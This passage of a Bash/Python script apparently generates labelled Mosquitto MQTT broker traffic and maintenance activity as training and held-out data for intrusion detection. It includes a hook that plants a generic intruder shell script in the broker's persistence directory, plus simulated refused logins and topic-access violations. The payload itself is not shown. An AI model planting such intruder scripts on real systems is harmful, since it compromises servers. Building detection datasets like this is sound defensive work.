            props = Properties(PacketTypes.CONNECT)
            props.SessionExpiryInterval = 0 if clean else 7200
            c.connect('127.0.0.1', PORTS[transport], 30, bind_address=src, clean_start=clean, properties=props)
        else:
            c.connect('127.0.0.1', PORTS[transport], 30, bind_address=src)
    except Exception as e:
        say('ERROR', src, cid, 'connect:', e)
        return
    c.loop_start()
    if not up.wait(5) or st['rc'] != 0:
        c.loop_stop()
        if refused and st['rc'] not in (None, 0):
            say('ok', src, cid, 'refused', st['rc'])
        else:
            say('ERROR', src, cid, 'connack', st['rc'])
        return
    if refused:
        say('ERROR', src, cid, 'accepted but should have been refused')
    dropped = False
    try:
        for op in ops:
            kind, *a = op.split(':')
            if kind == 'sub':
                c.subscribe(a[0], int(a[1]))
            elif kind == 'unsub':
                c.unsubscribe(a[0])
            elif kind == 'wait':
                time.sleep(float(a[0]))
            elif kind == 'msg':
                _, topic, qos, retain, payload = op.split(':', 4)
                c.publish(topic, payload, int(qos), retain == '1').wait_for_publish(5)
                st['sent'] += 1
            elif kind == 'pub':
                topic, qos, retain, count, size = a[0], int(a[1]), a[2] == '1', int(a[3]), int(a[4])
                first = int(a[5]) if len(a) > 5 else 1
                infos = []
                for i in range(count):
                    t = topic.replace('{}', '%02d' % (first + i))
                    infos.append(c.publish(t, reading(t, i, size), qos, retain))
                    st['sent'] += 1
                for info in infos:
                    if qos:
                        info.wait_for_publish(5)
            elif kind == 'drop':
                time.sleep(0.2)
                c.socket().shutdown(socket.SHUT_RDWR)
                dropped = True
                break
        if not dropped:
            time.sleep(0.1)
            c.disconnect()
    except Exception as e:
        say('ERROR', src, cid, 'session:', e)
    c.loop_stop()
    say('ok', src, cid, 'sent', st['sent'], 'got', st['got'])


# A client library thread that fails (paho 1.6 cannot parse an MQTT 5 PUBACK with reason
# code 0x83) is an error of the run, not a silent pause.
threading.excepthook = lambda a: say('ERROR', 'thread', a.exc_type.__name__, a.exc_value)
threads = [threading.Thread(target=session, args=(l,)) for l in sys.stdin.read().splitlines() if l.strip()]
for t in threads:
    t.start()
for t in threads:
    t.join(30)
PY
}

MQ_PID=
# mosquitto_ready: the broker answers a login (the health check: $SYS/broker/version as monitor).
mosquitto_ready() {
  mosquitto_sub -h 127.0.0.1 -p "$MQ_PORT" -u monitor -P "$(mosquitto_pass monitor)" -i dw-health \
    -t '$SYS/broker/version' -C 1 -W 2 >/dev/null
}
mosquitto_start() {
  launch mosquitto root /usr/sbin/mosquitto -c "$MQ_CONF"
  MQ_PID=$LAUNCHED
  until_ok mosquitto_ready
}
# TERM, as the unit stops it (the broker saves its database and exits); the rounds and the
# clients' unexpected errors so far are reported.
mosquitto_stop() {
  stop_pid "$MQ_PID" TERM
  echo "record-testdata: mosquitto: $MQ_ROUND rounds so far, $(grep -c '^ERROR' "$WORK/mosquitto-clients.log" 2>/dev/null || true) client errors" >&2
}
# mosquitto_sessions: the sessions on stdin run by the clients' program.
mosquitto_sessions() {
  /usr/bin/python3 "$MQ_CLIENT/mqtt-clients.py" "$MQ_PORT" "$MQ_WS_PORT" >>"$WORK/mosquitto-clients.log" 2>&1 ||
    echo "record-testdata: mosquitto: the clients' program failed" >&2
}
# mosquitto_cli TOOL SRC USER ARG...: mosquitto_pub or mosquitto_sub (an operator's or a
# script's) from SRC as USER.
mosquitto_cli() {
  local tool=$1 addr=$2 user=$3 secret
  secret=$(mosquitto_pass "$user" "$([ "$user" != ops ] || echo "$MQ_OPS_GEN")")
  shift 3
  "$tool" -h 127.0.0.1 -p "$MQ_PORT" -A "$addr" -u "$user" -P "$secret" "$@" >/dev/null 2>>"$WORK/mosquitto-clients.log" ||
    echo "ERROR $tool $addr $user $*" >>"$WORK/mosquitto-clients.log"
}
# mosquitto_gw ADDR SITE PROTO DEVICES FIRST QOS METRIC...: a gateway's session line: client
# id gw-SITE-1, persistent (its commands queue while it is away), its will (status offline,
# retained), online published retained, its commands and configs subscribed, DEVICES readings
# of each METRIC (devices FIRST and up) at QOS, then a pause; every third round it drops its
# connection (the will is published), otherwise it says offline and disconnects.
mosquitto_gw() {
  local addr=$1 site=$2 proto=$3 n=$4 first=$5 qos=$6 m gw_ops
  shift 6
  gw_ops="will:status/$site/gw:1:1:offline sub:cmd/$site/#:1 sub:config/$site/#:1 msg:status/$site/gw:1:1:online"
  for m in "$@"; do gw_ops+=" pub:sensors/$site/d{}/$m:$qos:0:$n:96:$first"; done
  gw_ops+=" wait:0.5"
  if [ $((MQ_ROUND % 3)) = 0 ]; then gw_ops+=" drop"; else gw_ops+=" msg:status/$site/gw:1:1:offline"; fi
  echo "$addr tcp $proto gw-$site:$(mosquitto_pass "gw-$site") gw-$site-1 0 $gw_ops"
}

# Mix A, from 127.0.0.2-5: the gateways of berlin and hamburg (.2, MQTT 3.1.1) and munich (.3,
# MQTT 5) publish temperature (QoS 0) and humidity (QoS 1) of 8-12 devices, with their
# online/offline status retained and a will; every fifth round a gateway with an old password
# (refused), an unknown user (refused) and hamburg's gateway publishing into berlin's topics
# (denied by the ACL, dropped); meanwhile a dashboard (.4, websockets) takes the retained
# statuses and the live readings of a site; then the ingest backend (.4, a persistent session,
# QoS 1) reconnects, receives what was queued for it while it was away (QoS 1 only: berlin's
# QoS 0 temperatures are not queued) and publishes an alert; the
# operator (.5, mosquitto_pub) sends a reboot command (QoS 1) to a gateway, and every other
# round the monitor (.5, mosquitto_sub) reads $SYS; every third round the newest technician
# account (added by the maintenance) writes a note into its own topics over websockets.
mosquitto_mix_a() {
  local r=$((MQ_ROUND += 1)) site d
  site=${MQ_SITES_A[r % 3]}
  d=$(printf %02d $((1 + RANDOM % 12)))
  {
    mosquitto_gw 127.0.0.2 berlin 311 12 1 0 temp
    mosquitto_gw 127.0.0.2 hamburg 311 8 1 1 temp humidity
    mosquitto_gw 127.0.0.3 munich 5 10 1 1 temp humidity
    if [ $((r % 5)) = 0 ]; then
      echo "127.0.0.3 tcp 311 gw-munich:dw-gw-munich-old gw-munich-2 1 refused"
      echo "127.0.0.3 tcp 311 guest:guest guest-$r 1 refused"
      echo "127.0.0.2 tcp 5 gw-hamburg:$(mosquitto_pass gw-hamburg) gw-hamburg-9 1 pub:sensors/berlin/d{}/temp:1:0:3:64"
    fi
    echo "127.0.0.4 ws 311 dashboard:$(mosquitto_pass dashboard) dash-$r 1 sub:status/#:0 sub:sensors/$site/#:0 wait:1.5"
  } | mosquitto_sessions
  {
    echo "127.0.0.4 tcp 311 ingest:$(mosquitto_pass ingest) ingest-1 0 sub:sensors/+/+/temp:1 sub:sensors/+/+/humidity:1 wait:1 pub:alerts/$site/d$d:1:0:1:128"
    if [ $((r % 3)) = 0 ] && [ "$MQ_TECH" -gt 0 ]; then
      echo "127.0.0.4 ws 311 tech-$MQ_TECH:$(mosquitto_pass "tech-$MQ_TECH") tech-$MQ_TECH-$r 1 sub:clients/tech-$MQ_TECH/#:1 wait:0.5 pub:clients/tech-$MQ_TECH/notes:1:0:1:200"
    fi
  } | mosquitto_sessions
  mosquitto_cli mosquitto_pub 127.0.0.5 ops -q 1 -t "cmd/$site/d$d/reboot" -m "{\"id\":$r}"
  [ $((r % 2)) = 1 ] || mosquitto_cli mosquitto_sub 127.0.0.5 monitor -t '$SYS/broker/clients/connected' \
    -t '$SYS/broker/messages/received' -t '$SYS/broker/store/messages/count' -C 3 -W 3
}
# Mix B, from 127.0.0.6-9, other sites, topics, QoS and client counts: the gateways of vienna
# and zurich (.6) publish energy meter readings at QoS 2 and power at QoS 1 for 16-24 devices
# while three dashboards at once watch them over websockets (.8), then four more of vienna's
# gateways (other client ids, one device each, MQTT 5); the archive backend (.7, a persistent
# session, QoS 2) reconnects and takes the energy readings and alerts queued for it; the
# operator (.9) publishes a retained
# reporting interval for a site every third round (mosquitto_pub -r) and reads the statuses
# (mosquitto_sub of status/#, retained); every fourth round a retained config is cleared.
mosquitto_mix_b() {
  local r=$((MQ_ROUND += 1)) n site
  site=${MQ_SITES_B[r % 2]}
  {
    mosquitto_gw 127.0.0.6 vienna 5 24 1 2 energy
    mosquitto_gw 127.0.0.6 zurich 311 16 1 1 power energy
    for n in 1 2 3; do
      echo "127.0.0.8 ws 311 dashboard:$(mosquitto_pass dashboard) dash-b$n-$r 1 sub:sensors/${MQ_SITES_B[n % 2]}/#:0 sub:status/+/gw:0 wait:1.2"
    done
  } | mosquitto_sessions
  for n in 2 3 4 5; do
    echo "127.0.0.6 tcp 5 gw-vienna:$(mosquitto_pass gw-vienna) gw-vienna-$n 1 pub:sensors/vienna/m{}/energy:2:0:1:64:$((n * 10 + r % 10))"
  done | mosquitto_sessions
  echo "127.0.0.7 tcp 311 archive:$(mosquitto_pass archive) archive-1 0 sub:sensors/+/+/energy:2 sub:alerts/#:2 wait:1.2" |
    mosquitto_sessions
  [ $((r % 3)) != 0 ] || mosquitto_cli mosquitto_pub 127.0.0.9 ops -q 1 -r -t "config/$site/interval" -m "$((10 + r % 5 * 10))"
  [ $((r % 4)) != 0 ] || mosquitto_cli mosquitto_pub 127.0.0.9 ops -q 1 -r -n -t "config/${MQ_SITES_B[(r + 1) % 2]}/interval"
  mosquitto_cli mosquitto_sub 127.0.0.9 ops -t 'status/#' -C 2 -W 2
}

# mosquitto_passwd_admin ARG...: the operator's mosquitto_passwd on the password file, inside the
# cgroup as mosquitto (the service's own tool, as `kubectl exec` runs it).
mosquitto_passwd_admin() { admin mosquitto mosquitto /usr/bin/mosquitto_passwd "$@"; }
# mosquitto_reload: HUP from outside, as the unit's ExecReload (the password file, the ACLs and
# the config re-read, the log reopened).
mosquitto_reload() { kill -HUP "$MQ_PID"; sleep 0.3; }
# mosquitto_backup NAME: the database saved now (SIGUSR1) and copied into backup/NAME by the
# backup agent (outside the cgroup).
mosquitto_backup() {
  kill -USR1 "$MQ_PID"
  sleep 0.5
  cp -p "$MQ_DIR/data/mosquitto.db" "$MQ_DIR/backup/$1"
}

# Its scheduled jobs in training: a technician's account added (tech-N) and ops's password
# rotated with mosquitto_passwd -b inside the cgroup as mosquitto, then HUP (reload); the log
# rotated as Debian's logrotate does (mosquitto.log -> .1 -> .2.gz, then HUP); the database
# saved (SIGUSR1) and copied into backup/mosquitto-<time>.db.
mosquitto_maintenance() {
  MQ_TECH=$((MQ_TECH + 1))
  mosquitto_passwd_admin -b "$MQ_DIR/auth/passwd" "tech-$MQ_TECH" "$(mosquitto_pass "tech-$MQ_TECH")"
  MQ_OPS_GEN=$((MQ_OPS_GEN + 1))
  mosquitto_passwd_admin -b "$MQ_DIR/auth/passwd" ops "$(mosquitto_pass ops "$MQ_OPS_GEN")"
  mosquitto_reload
  rotate_logs HUP "$MQ_PID" gz "$MQ_DIR/log/mosquitto.log"
  mosquitto_backup "mosquitto-$(date +%Y%m%d-%H%M%S).db"
}

# The generic intruder script as mosquitto (an exploited broker executing a shell) in its
# persistence directory.
mosquitto_inject() { inject_shell mosquitto mosquitto "$MQ_DIR/data"; }
mosquitto_labels() { write_labels mosquitto "$MQ_DIR/data"; }

# Held out, from a fresh provisioning. Three new sites go live: their gateways' ACLs and a new
# application's (analytics) appended to the ACL file by the operator, their users gw-oslo,
# gw-lisbon, gw-riga and analytics added with mosquitto_passwd inside the cgroup as mosquitto;
# a config change: max_inflight_messages 40, message_size_limit 64 kB and max_queued_messages
# 5000 (applied by HUP), max_connections 200 on the websockets listener (a listener option,
# applied by the restart at 30 s). Each round clients from 127.0.37.1-250 (others each round):
# the new sites' gateways (MQTT 5 and 3.1.1) publish co2, pressure and temp of their devices
# (QoS 0-2), berlin's and zurich's gateways devices 40-59 (never seen in training), two
# dashboards over websockets (one MQTT 5) watch them; then the analytics application (a
# persistent session, MQTT 5 over websockets, QoS 2 and 1) takes co2 and pressure and writes a
# report (reports/<site>/hourly) and its retained state into its own clients/analytics/, the
# ingest backend takes what was queued, a batch upload of 8-40 kB every other round and every
# fourth a 100 kB one (MQTT 3.1.1, over the new limit: the broker drops it and completes the
# QoS 1 flow); the operator's calibrate commands to the new sites (mosquitto_pub). Every 20 s in
# turn: an account removed (mosquitto_passwd -D: the archive backend's, decommissioned, then the
# contractor's before) and a contractor's added, then HUP; or the log rotated with a date
# suffix and compressed at once, HUP, and a backup into backup/heldout-<time>.db.
mosquitto_heldout_deploy() {
  local s
  for s in "${MQ_SITES_H[@]}"; do mosquitto_acl_site "$s"; done >>"$MQ_DIR/auth/acl"
  printf '\nuser analytics\ntopic read sensors/#\ntopic write reports/#\n' >>"$MQ_DIR/auth/acl"
  for s in "${MQ_SITES_H[@]}"; do
    mosquitto_passwd_admin -b "$MQ_DIR/auth/passwd" "gw-$s" "$(mosquitto_pass "gw-$s")"
  done
  mosquitto_passwd_admin -b "$MQ_DIR/auth/passwd" analytics "$(mosquitto_pass analytics)"
  MQ_WS_EXTRA=("max_connections 200")
  mosquitto_config "max_inflight_messages 40" "message_size_limit 65536" "max_queued_messages 5000" >"$MQ_CONF.new"
  MQ_WS_EXTRA=()
  chown root:mosquitto "$MQ_CONF.new"
  chmod 640 "$MQ_CONF.new"
  mv "$MQ_CONF.new" "$MQ_CONF"
  mosquitto_reload
  MQ_HELDOUT_JOBS=0
}
mosquitto_heldout_addr() { echo "127.0.37.$((1 + ($1 * 37 + MQ_ROUND * 53) % 250))"; }
mosquitto_heldout_mix() {
  local r=$((MQ_ROUND += 1)) s i=0 site
  site=${MQ_SITES_H[r % 3]}
  {
    for s in "${MQ_SITES_H[@]}"; do
      i=$((i + 1))
      mosquitto_gw "$(mosquitto_heldout_addr "$i")" "$s" "$([ $((i % 2)) = 1 ] && echo 5 || echo 311)" \
        $((6 + (r + i) % 10)) $((1 + r % 20)) $((i % 3)) co2 pressure temp
    done
    mosquitto_gw "$(mosquitto_heldout_addr 4)" berlin 311 6 $((40 + r % 15)) 1 temp
    mosquitto_gw "$(mosquitto_heldout_addr 5)" zurich 5 4 $((50 + r % 10)) 2 energy
    echo "$(mosquitto_heldout_addr 8) ws 311 dashboard:$(mosquitto_pass dashboard) dash-h$r 1 sub:status/#:0 sub:sensors/$site/#:0 wait:1.2"
    echo "$(mosquitto_heldout_addr 9) ws 5 dashboard:$(mosquitto_pass dashboard) dash-h$r-2 1 sub:sensors/+/+/co2:0 wait:1.2"
  } | mosquitto_sessions
  {
    echo "$(mosquitto_heldout_addr 6) ws 5 analytics:$(mosquitto_pass analytics) analytics-1 0 sub:sensors/+/+/co2:2 sub:sensors/+/+/pressure:1 wait:1 pub:reports/$site/hourly:1:0:1:2048 pub:clients/analytics/state:1:1:1:300"
    echo "$(mosquitto_heldout_addr 7) tcp 311 ingest:$(mosquitto_pass ingest) ingest-1 0 sub:sensors/+/+/temp:1 wait:0.8"
    [ $((r % 2)) = 1 ] || echo "$(mosquitto_heldout_addr 10) tcp 5 gw-$site:$(mosquitto_pass "gw-$site") gw-$site-batch 1 pub:sensors/$site/batch:1:0:1:$((8192 + r * 4096 % 32768))"
    [ $((r % 4)) != 0 ] || echo "$(mosquitto_heldout_addr 11) tcp 311 gw-$site:$(mosquitto_pass "gw-$site") gw-$site-fw 1 pub:sensors/$site/dump:1:0:1:100000"
  } | mosquitto_sessions
  mosquitto_cli mosquitto_pub "$(mosquitto_heldout_addr 12)" ops -q 1 -t "cmd/$site/d$(printf %02d $((1 + r % 20)))/calibrate" -m "{\"id\":$r}"
}
MQ_HELDOUT_JOBS=0
mosquitto_heldout_job() {
  local f=$MQ_DIR/log/mosquitto.log stamp
  stamp=$(date +%Y%m%d-%H%M%S)
  if [ $(((MQ_HELDOUT_JOBS += 1) % 2)) = 1 ]; then
    # The first time the archive backend's account (decommissioned), then the contractor before.
    mosquitto_passwd_admin -D "$MQ_DIR/auth/passwd" "$([ "$MQ_HELDOUT_JOBS" = 1 ] && echo archive || echo "contractor-$((MQ_HELDOUT_JOBS - 2))")"
    mosquitto_passwd_admin -b "$MQ_DIR/auth/passwd" "contractor-$MQ_HELDOUT_JOBS" "$(mosquitto_pass "contractor-$MQ_HELDOUT_JOBS")"
    mosquitto_reload
  else
    mv -f "$f" "$f-$stamp"
    kill -HUP "$MQ_PID"
    gzip -f "$f-$stamp"
    mosquitto_backup "heldout-$stamp.db"
  fi
}

# --- the recordings -----------------------------------------------------------------------

# traffic SECONDS MIX [MAINTENANCE [EVERY]]: runs the server's traffic mix MIX in rounds for
# SECONDS, and MAINTENANCE (a scheduled job of the server) every EVERY seconds (default
# MAINT_SECONDS).
traffic() {
  local every=${4:-$MAINT_SECONDS}
  local end=$((SECONDS + $1)) next=$((SECONDS + every))
  while [ "$SECONDS" -lt "$end" ]; do
    "$2"
    if [ -n "${3:-}" ] && [ "$SECONDS" -ge "$next" ]; then "$3"; next=$((SECONDS + every)); fi
    sleep 2
  done
}

# traffic2 SECONDS MIX JOB: like traffic, for heldout2: HELDOUT2_ROUND counts the rounds (the
# mixes alternate quiet and busy rounds with it), JOB runs every HELDOUT2_MAINT_SECONDS, and
# the pause between rounds is irregular (1-3 s).
HELDOUT2_ROUND=0
traffic2() {
  local end=$((SECONDS + $1)) next=$((SECONDS + HELDOUT2_MAINT_SECONDS))
  while [ "$SECONDS" -lt "$end" ]; do
    HELDOUT2_ROUND=$((HELDOUT2_ROUND + 1))
    "$2"
    if [ "$SECONDS" -ge "$next" ]; then "$3"; next=$((SECONDS + HELDOUT2_MAINT_SECONDS)); fi
    sleep $((1 + RANDOM % 3))
  done
}

# heldout2_get PORT BUSY FIRST COUNT NSTRIDE RSTRIDE CURL_OPT PATH...: GETs the paths from
# 127.0.0.1:PORT, 2 at a time in odd rounds and BUSY at a time in even ones, the n-th from the
# source address 127.0.0.(FIRST + (n * NSTRIDE + round * RSTRIDE) % COUNT); CURL_OPT is one
# more curl option, or "".
heldout2_get() {
  local port=$1 busy=$2 first=$3 count=$4 nstride=$5 rstride=$6 opt=$7 c=2 n=0 p
  shift 7
  [ $((HELDOUT2_ROUND % 2)) = 0 ] && c=$busy
  for p in "$@"; do
    echo "$((first + (n * nstride + HELDOUT2_ROUND * rstride) % count)) http://127.0.0.1:$port$p"
    n=$((n + 1))
  done | xargs -P "$c" -n 2 sh -c 'curl -s $0 --max-time 5 --interface "127.0.0.$1" "$2" >/dev/null' "$opt"
}

# rounds COUNTER SECONDS MIX PAUSE: like traffic, for heldout3 and heldout4: MIX every PAUSE s
# for SECONDS, each round counted in the variable named COUNTER (HELDOUT3_ROUND,
# HELDOUT4_ROUND: the mixes read it), and no job (those phases run their maintenance once).
rounds() {
  local -n counter=$1
  local end=$((SECONDS + $2))
  while [ "$SECONDS" -lt "$end" ]; do
    counter=$((counter + 1))
    "$3"
    sleep "$4"
  done
}

# burst VAR N FN [PAUSE]: N rounds of FN back to back (PAUSE s after each, if given),
# counting them in VAR.
burst() {
  local -n counter=$1
  local i
  for ((i = 0; i < $2; i++)); do
    counter=$((counter + 1))
    "$3"
    [ -z "${4:-}" ] || sleep "$4"
  done
}

# heldout3: HELDOUT3_ROUND counts its rounds, HELDOUT3_PAUSE s apart.
HELDOUT3_ROUND=0
HELDOUT3_KEEPALIVE=0
HELDOUT3_PAUSE=1
HELDOUT3_IDLE_SECONDS=${HELDOUT3_IDLE_SECONDS:-15}

# heldout3_get PORT PATH...: GETs the paths from 127.0.0.1:PORT with source addresses
# 127.0.1.10-59: one request per connection (16 at a time) while HELDOUT3_KEEPALIVE is 0,
# then 15 requests per keep-alive connection (4 at a time).
heldout3_get() {
  local per=1 c=16
  if [ "$HELDOUT3_KEEPALIVE" = 1 ]; then per=15 c=4; fi
  spread_get "$1" 127.0.1 10 50 7 3 "$HELDOUT3_ROUND" "$per" "$c" "${@:2}"
}
# spread_get PORT NET FIRST COUNT NSTRIDE RSTRIDE ROUND PER CONC PATH...: GETs the paths from
# 127.0.0.1:PORT, PER requests per connection, CONC connections at a time, the n-th
# connection from the source address NET.(FIRST + (n * NSTRIDE + ROUND * RSTRIDE) % COUNT)
# (n counts the paths).
spread_get() {
  local port=$1 net=$2 first=$3 count=$4 nstride=$5 rstride=$6 round=$7 per=$8 c=$9
  shift 9
  printf '%s\n' "$@" | awk -v per="$per" -v r="$round" -v f="$first" -v n="$count" -v ns="$nstride" \
      -v rs="$rstride" -v u="http://127.0.0.1:$port" '
    (NR - 1) % per == 0 { if (NR > 1) print line; line = f + (NR * ns + r * rs) % n }
    { line = line " " u $0 }
    END { if (NR > 0) print line }' |
    xargs -P "$c" -L 1 sh -c 'net=$0; a=$1; shift; curl -s --max-time 5 --interface "$net.$a" "$@" >/dev/null' \
      "$net" || true
}
# heldout3_raw PORT ADDR TEXT [HOLD]: sends TEXT (printf escapes) over one connection from
# 127.0.1.ADDR (or from ADDR, if it is a whole address) and reads the answer for up to a
# second, or closes after HOLD s without reading (a client that goes away mid-request).
heldout3_raw() {
  local a=127.0.1.$2
  case $2 in *.*) a=$2 ;; esac
  if [ -n "${4:-}" ]; then
    { printf %b "$3"; sleep "$4"; } | socat -u - "TCP:127.0.0.1:$1,bind=$a" 2>/dev/null || true
  else
    printf %b "$3" | socat -t 1 - "TCP:127.0.0.1:$1,bind=$a" >/dev/null 2>&1 || true
  fi
}
# heldout3_kill_worker PID: kills one child process of PID (a worker of that master) with
# SIGKILL, as the OOM killer would, and gives the master a second to start another.
heldout3_kill_worker() {
  local w n
  n=$(pgrep -c -P "$1")
  w=$(pgrep -P "$1" | head -n 1)
  [ -n "$w" ] || die "no worker of process $1 to kill"
  kill -KILL "$w"
  sleep 1
  until_ok heldout3_workers_back "$1" "$n" "$w"
}
# heldout3_workers_back PID N DEAD: PID has N children again, and DEAD is not one of them.
heldout3_workers_back() {
  [ "$(pgrep -c -P "$1")" = "$2" ] && ! pgrep -P "$1" | grep -qx "$3"
}

# heldout4: HELDOUT4_ROUND counts its rounds; the load (HELDOUT4_CONC: connections at a time,
# or a batch run's size) is set by the phase.
HELDOUT4_ROUND=0
HELDOUT4_CONC=1
# load_steps COUNTER CONC MIX PAUSE LOAD...: one round of MIX at each LOAD (set in the
# variable named CONC; each round counted in the one named COUNTER), PAUSE s apart.
load_steps() {
  local -n counter=$1
  local conc=$2 mix=$3 pause=$4 c
  shift 4
  for c in "$@"; do
    printf -v "$conc" %s "$c"
    counter=$((counter + 1))
    "$mix"
    sleep "$pause"
  done
}
# ramp4 MIX PAUSE LOAD...: one round of MIX at each LOAD, PAUSE s apart.
ramp4() { load_steps HELDOUT4_ROUND HELDOUT4_CONC "$@"; }
# heldout4_addr N: the N-th client address of the round, in 127.0.2.100-199.
heldout4_addr() { echo "127.0.2.$((100 + ($1 * 13 + HELDOUT4_ROUND * 7) % 100))"; }
# heldout4_get PORT PATH...: GETs the paths from 127.0.0.1:PORT with source addresses
# 127.0.2.100-199, HELDOUT4_CONC connections at a time, 1 to 6 requests per connection
# (another number each round).
heldout4_get() {
  spread_get "$1" 127.0.2 100 100 13 7 "$HELDOUT4_ROUND" $((1 + HELDOUT4_ROUND % 6)) "$HELDOUT4_CONC" "${@:2}"
}

# heldout5: HELDOUT5_ROUND counts its rounds; HELDOUT5_CONC (connections at a time, or a
# batch run's size) and HELDOUT5_PER (requests per connection) are set by each stretch of
# the phase.
HELDOUT5_ROUND=0
HELDOUT5_CONC=6
HELDOUT5_PER=2
# heldout5_addr N: the N-th client address of the round, in 127.0.3.1-250.
heldout5_addr() { echo "127.0.3.$((1 + ($1 * 11 + HELDOUT5_ROUND * 17) % 250))"; }
# heldout5_get PORT PATH...: GETs the paths from 127.0.0.1:PORT with source addresses
# 127.0.3.1-250, HELDOUT5_PER requests per connection, HELDOUT5_CONC connections at a time.
heldout5_get() {
  spread_get "$1" 127.0.3 1 250 11 17 "$HELDOUT5_ROUND" "$HELDOUT5_PER" "$HELDOUT5_CONC" "${@:2}"
}
# heldout5_probe_http PORT PATH: a load balancer's health check from 127.0.3.254.
heldout5_probe_http() { curl -s --max-time 2 --interface 127.0.3.254 "http://127.0.0.1:$1$2" >/dev/null || true; }
# heldout5_not CMD...: CMD fails (for until_ok).
heldout5_not() { ! "$@"; }
# heldout5_lull SECONDS PROBE EVERY: no traffic for SECONDS but PROBE every EVERY s (a
# monitor's health check, or the scheduler's run with nothing to do).
heldout5_lull() {
  local end=$((SECONDS + $1))
  while [ "$SECONDS" -lt "$end" ]; do
    "$2"
    sleep "$3"
  done
}

# heldout6: HELDOUT6_ROUND counts its rounds; HELDOUT6_CONC (connections at a time, or a
# batch run's size) and HELDOUT6_PER (requests per connection) are set by each stretch of
# the phase.
HELDOUT6_ROUND=0
HELDOUT6_CONC=2
HELDOUT6_PER=12
HELDOUT6_IDLE_SECONDS=${HELDOUT6_IDLE_SECONDS:-30}
# heldout6_addr N: the N-th client address of the round, in 127.0.4.1-200.
heldout6_addr() { echo "127.0.4.$((1 + ($1 * 19 + HELDOUT6_ROUND * 23) % 200))"; }
# heldout6_get PORT PATH...: GETs the paths from 127.0.0.1:PORT with source addresses
# 127.0.4.1-200, HELDOUT6_PER requests per connection, HELDOUT6_CONC connections at a time.
heldout6_get() {
  spread_get "$1" 127.0.4 1 200 19 23 "$HELDOUT6_ROUND" "$HELDOUT6_PER" "$HELDOUT6_CONC" "${@:2}"
}
# heldout6_stretch SERVER CONC PER SECONDS PAUSE: rounds of SERVER's heldout6 mix for SECONDS,
# PAUSE s apart, CONC connections at a time, PER requests each.
heldout6_stretch() {
  HELDOUT6_CONC=$2 HELDOUT6_PER=$3
  rounds HELDOUT6_ROUND "$4" "$1_heldout6_mix" "$5"
}
# heldout7, as heldout6 with its own counter and load (HELDOUT7_ROUND, HELDOUT7_CONC,
# HELDOUT7_PER) and a quiet period of twice HELDOUT7_QUIET_SECONDS around its change; its
# clients come from 127.0.5.1-240 (heldout7_addr N: the N-th of the round; heldout7_get
# PORT PATH...: the paths, HELDOUT7_PER requests per connection, HELDOUT7_CONC at a time).
HELDOUT7_QUIET_SECONDS=${HELDOUT7_QUIET_SECONDS:-10}
HELDOUT7_ROUND=0 HELDOUT7_CONC=1 HELDOUT7_PER=20
heldout7_addr() { echo "127.0.5.$((1 + ($1 * 29 + HELDOUT7_ROUND * 31) % 240))"; }
heldout7_get() { spread_get "$1" 127.0.5 1 240 29 31 "$HELDOUT7_ROUND" "$HELDOUT7_PER" "$HELDOUT7_CONC" "${@:2}"; }
# heldout7_stretch SERVER CONC PER SECONDS PAUSE: rounds of SERVER's heldout7 mix for SECONDS,
# PAUSE s apart, CONC connections at a time, PER requests each.
heldout7_stretch() {
  HELDOUT7_CONC=$2 HELDOUT7_PER=$3
  rounds HELDOUT7_ROUND "$4" "$1_heldout7_mix" "$5"
}
# heldout7_alternate SERVER SECONDS PAUSE: rounds of SERVER's heldout7 mix for SECONDS, PAUSE s
# apart, alternately a crawler (one connection, 20 requests) and a fan-out (16 connections,
# one request each).
heldout7_alternate() {
  local end=$((SECONDS + $2))
  while [ "$SECONDS" -lt "$end" ]; do
    HELDOUT7_ROUND=$((HELDOUT7_ROUND + 1))
    if [ $((HELDOUT7_ROUND % 2)) = 1 ]; then HELDOUT7_CONC=1 HELDOUT7_PER=20; else HELDOUT7_CONC=16 HELDOUT7_PER=1; fi
    "$1_heldout7_mix"
    sleep "$3"
  done
}
# heldout8, its own counter and load (HELDOUT8_ROUND, HELDOUT8_CONC, HELDOUT8_PER) and an
# idle period of HELDOUT8_IDLE_SECONDS right after the start; its clients come from
# 127.0.6.1-250 (heldout8_addr N: the N-th of the round; heldout8_get PORT PATH...: the
# paths, HELDOUT8_PER requests per connection, HELDOUT8_CONC at a time).
HELDOUT8_IDLE_SECONDS=${HELDOUT8_IDLE_SECONDS:-16}
HELDOUT8_ROUND=0 HELDOUT8_CONC=32 HELDOUT8_PER=1
heldout8_addr() { echo "127.0.6.$((1 + ($1 * 37 + HELDOUT8_ROUND * 41) % 250))"; }
heldout8_get() { spread_get "$1" 127.0.6 1 250 37 41 "$HELDOUT8_ROUND" "$HELDOUT8_PER" "$HELDOUT8_CONC" "${@:2}"; }
# heldout8_sawtooth SERVER SECONDS PAUSE: rounds of SERVER's heldout8 mix for SECONDS, PAUSE s
# apart, with 2, 6 and 12 connections at a time in turn (3 requests each).
heldout8_sawtooth() {
  local end=$((SECONDS + $2)) loads=(2 6 12)
  HELDOUT8_PER=3
  while [ "$SECONDS" -lt "$end" ]; do
    HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
    HELDOUT8_CONC=${loads[HELDOUT8_ROUND % 3]}
    "$1_heldout8_mix"
    sleep "$3"
  done
}
# heldout9, its own counter and load (HELDOUT9_ROUND, HELDOUT9_CONC, HELDOUT9_PER) and an
# idle period of HELDOUT9_IDLE_SECONDS before its burst; its clients come from 127.0.7.1-250
# (heldout9_addr N: the N-th of the round; heldout9_get PORT PATH...: the paths,
# HELDOUT9_PER requests per connection, HELDOUT9_CONC at a time).
HELDOUT9_IDLE_SECONDS=${HELDOUT9_IDLE_SECONDS:-22}
HELDOUT9_ROUND=0 HELDOUT9_CONC=10 HELDOUT9_PER=1
heldout9_addr() { echo "127.0.7.$((1 + ($1 * 43 + HELDOUT9_ROUND * 47) % 250))"; }
heldout9_get() { spread_get "$1" 127.0.7 1 250 43 47 "$HELDOUT9_ROUND" "$HELDOUT9_PER" "$HELDOUT9_CONC" "${@:2}"; }
# heldout10, its own counter and load (HELDOUT10_ROUND, HELDOUT10_CONC, HELDOUT10_PER) and an
# idle period of HELDOUT10_IDLE_SECONDS after its late event; its clients come from
# 127.0.8.1-250 (heldout10_addr N: the N-th of the round; heldout10_get PORT PATH...: the
# paths, HELDOUT10_PER requests per connection, HELDOUT10_CONC at a time).
HELDOUT10_IDLE_SECONDS=${HELDOUT10_IDLE_SECONDS:-12}
HELDOUT10_ROUND=0 HELDOUT10_CONC=4 HELDOUT10_PER=5
